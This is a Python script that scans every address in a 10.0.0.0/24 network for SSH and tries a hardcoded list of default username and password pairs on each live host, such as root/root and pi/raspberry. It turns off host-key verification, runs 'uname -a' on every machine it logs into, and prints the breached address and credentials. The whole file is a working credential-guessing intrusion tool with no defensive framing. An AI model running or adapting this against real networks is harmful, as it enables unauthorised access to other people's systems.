import asyncio
import ipaddress

import asyncssh

NET = ipaddress.ip_network("10.0.0.0/24")
GUESSES = [("root", "root"), ("admin", "admin"), ("pi", "raspberry"), ("ubuntu", "ubuntu"), ("oracle", "oracle")]


async def reachable(ip: str, port: int = 22) -> bool:
    try:
        _, w = await asyncio.wait_for(asyncio.open_connection(ip, port), 1)
    except (OSError, asyncio.TimeoutError):
        return False
    w.close()
    return True


async def probe(ip: str, gate: asyncio.Semaphore):
    async with gate:
        if not await reachable(ip):
            return None
        for user, word in GUESSES:
            try:
                async with asyncssh.connect(ip, username=user, password=word, known_hosts=None) as c:
                    return ip, user, word, (await c.run("uname -a")).stdout
            except (asyncssh.Error, OSError):
                continue


async def main():
    gate = asyncio.Semaphore(64)
    found = await asyncio.gather(*(probe(str(i), gate) for i in NET.hosts()))
    for row in filter(None, found):
        print(*row, sep="\t")


asyncio.run(main())
